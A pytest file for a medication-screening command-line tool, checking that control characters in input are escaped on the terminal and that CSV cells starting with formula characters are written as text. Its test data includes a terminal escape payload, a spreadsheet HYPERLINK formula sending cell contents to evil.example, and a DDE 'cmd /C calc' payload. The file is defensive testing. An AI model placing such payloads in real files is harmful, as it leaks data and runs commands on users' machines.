"""Text from input never drives a terminal or a spreadsheet (issue 12, items 8 and 9).

- Ids, medication names, field names in errors, file names, replies echoed by ``ask`` and rule
  titles from a ``--rules`` folder are shown with their control characters escaped (``\\x1b``,
  ``\\u009b``): an answers file cannot recolour the terminal, move the cursor, retitle the
  window or hide a line. JSON output stays valid JSON with the same content.
- A CSV cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'``
  first, so a spreadsheet shows it as text instead of running it as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from screener.batch.writers import open_writer

ROOT = Path(__file__).resolve().parent.parent
ENV = {**os.environ, "NO_COLOR": "1"}
ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31m"  # retitle the window, clear the screen, turn red
CSI = "\x9b"  # the one-character form of ESC [
RAW_CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")  # C0, DEL, C1 (as UTF-8)


def run(*args: str, cwd: Path, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "screener", *args], cwd=cwd, input=stdin, capture_output=True, env=ENV, timeout=300
    )


def assert_no_raw_control(output: bytes) -> None:
    found = RAW_CONTROL.search(output)
    assert found is None, f"raw control character {found.group()!r} sent to the terminal: {output[max(found.start() - 60, 0):found.end() + 20]!r}"


def test_terminal_safe_escapes_controls_and_keeps_tabs_newlines_and_text() -> None:
    from screener.errors import terminal_safe

    assert terminal_safe("Zoë\tok\n") == "Zoë\tok\n"
    assert terminal_safe("a\x1b[31mb\rc\x9bd\x7f") == "a\\x1b[31mb\\x0dc\\u009bd\\u007f"
    as_json = json.dumps({"id": "x\x1b\x9b\x7f"}, ensure_ascii=False)
    assert json.loads(terminal_safe(as_json)) == json.loads(as_json)


def test_an_id_and_a_medication_name_in_the_report_are_shown_escaped(tmp_path: Path) -> None:
    answers = {"id": f"p1{ESCAPE}", "age": 70, "medications": [f"Zzzmed{ESCAPE}", "Lasix 40 mg"], "symptoms": ["muscle_cramps"]}
    (tmp_path / "one.json").write_text(json.dumps(answers))
    done = run("screen", "one.json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert_no_raw_control(done.stdout + done.stderr)
    assert b"\\x1b[2J" in done.stdout


def test_screen_json_keeps_the_same_content_without_raw_c1_characters(tmp_path: Path) -> None:
    answers = {"id": f"p{CSI}2J", "medications": [f"Zzz{CSI}31m"]}
    (tmp_path / "one.json").write_text(json.dumps(answers, ensure_ascii=False), encoding="utf-8")
    done = run("screen", "one.json", "--json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert_no_raw_control(done.stdout)
    assert json.loads(done.stdout)["id"] == answers["id"]


def test_batch_results_on_stdout_have_no_raw_control_characters_and_the_same_ids(tmp_path: Path) -> None:
    records = [{"id": f"a{CSI}2J"}, {"id": f"b{ESCAPE}"}, {"id": "c", "age": f"x{ESCAPE}"}]
    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    for fmt in ("jsonl", "json"):
        done = run("batch", "in.jsonl", "--format", fmt, cwd=tmp_path)
        assert_no_raw_control(done.stdout + done.stderr)
        entries = [json.loads(line) for line in done.stdout.splitlines()] if fmt == "jsonl" else json.loads(done.stdout)
        assert [entry["id"] for entry in entries] == ["a\x9b2J", f"b{ESCAPE}", "c"]


def test_field_names_and_values_in_validation_errors_are_shown_escaped(tmp_path: Path) -> None:
    (tmp_path / "in.jsonl").write_text(json.dumps({f"age{ESCAPE}": 3, "sex": f"female{ESCAPE}"}) + "\n")
    for command in (["validate", "in.jsonl"], ["screen", "in.jsonl"]):
        done = run(*command, cwd=tmp_path)
        assert done.returncode == 3, done.stderr
        assert_no_raw_control(done.stdout + done.stderr)
        assert b"age\\x1b]0;owned" in done.stdout + done.stderr


def test_a_file_name_holding_escape_sequences_is_shown_escaped(tmp_path: Path) -> None:
    name = f"broken{ESCAPE}.json"
    (tmp_path / name).write_text("")
    (tmp_path / "good.json").write_text('{"id": "a"}')
    done = run("batch", name, "good.json", cwd=tmp_path)
    assert done.returncode == 3
    assert_no_raw_control(done.stderr)
    assert b"broken\\x1b]0;owned" in done.stderr


def test_replies_echoed_by_ask_are_shown_escaped(tmp_path: Path) -> None:
    done = run("ask", "--plain", cwd=tmp_path, stdin=f"{ESCAPE}\n".encode())
    assert done.returncode == 2  # the input ended before the end
    assert_no_raw_control(done.stdout + done.stderr)
    assert b"\\x1b[2J" in done.stdout


@pytest.fixture
def rules_with_an_escape_in_a_title(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    shutil.copytree(ROOT / "rules", folder, ignore=shutil.ignore_patterns("__init__.py", "__pycache__"))
    path = folder / "risk_factors.json"
    data = json.loads(path.read_text())
    data["rules"][0]["title"] = f"Loop diuretic{ESCAPE}"
    path.write_text(json.dumps(data, indent=2))
    return folder


@pytest.mark.parametrize("command", [["rules", "list"], ["rules", "show", "rf_loop_diuretic"], ["rules", "docs"]])
def test_rule_titles_from_a_rule_folder_are_shown_escaped(
    tmp_path: Path, rules_with_an_escape_in_a_title: Path, command: list[str]
) -> None:
    done = run(*command, "--rules", str(rules_with_an_escape_in_a_title), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert_no_raw_control(done.stdout + done.stderr)
    assert b"Loop diuretic\\x1b]0;owned" in done.stdout


def test_a_rule_title_in_a_screening_report_is_shown_escaped(tmp_path: Path, rules_with_an_escape_in_a_title: Path) -> None:
    (tmp_path / "one.json").write_text(json.dumps({"medications": ["Lasix 40 mg"], "symptoms": ["muscle_cramps"]}))
    done = run("screen", "one.json", "--rules", str(rules_with_an_escape_in_a_title), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert_no_raw_control(done.stdout + done.stderr)
    assert b"Loop diuretic\\x1b]0;owned" in done.stdout


# ---------------------------------------------------------------------- item 9: CSV injection


def csv_rows(entries: list[dict[str, Any]]) -> list[dict[str, str]]:
    out = io.StringIO()
    with open_writer(None, "csv", stdout=out) as writer:
        for entry in entries:
            writer.write(entry)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    [row] = csv_rows(
        [{"status": "screened", "id": formula, "source": f"{start}cmd|' /C calc'!A0", "warnings": [f"{start}1+1", "ok"]}]
    )
    shown = "\n" if start == "\r" else start  # a CR becomes a newline, which CSV readers keep in the cell
    assert row["id"] == "'" + shown + formula[1:]
    assert row["source"] == f"'{shown}cmd|' /C calc'!A0"
    assert row["warnings"] == f"'{shown}1+1; ok"


def test_ordinary_cells_are_left_as_they_are() -> None:
    [row] = csv_rows([{"status": "screened", "id": "p-017", "position": 3, "consult_clinician": True, "risk_factors": ["a", "b"]}])
    assert (row["id"], row["position"], row["consult_clinician"], row["risk_factors"]) == ("p-017", "3", "true", "a; b")


def test_the_batch_command_writes_a_formula_id_as_text_in_csv(tmp_path: Path) -> None:
    (tmp_path / "in.jsonl").write_text(json.dumps({"id": "=1+2", "medications": ["@SUM(A1:A9)"]}) + "\n")
    done = run("batch", "in.jsonl", "--format", "csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    [row] = list(csv.DictReader(io.StringIO(done.stdout.decode())))
    assert row["id"] == "'=1+2"
    assert row["warnings"].startswith("'") or not row["warnings"].startswith(("=", "+", "-", "@"))
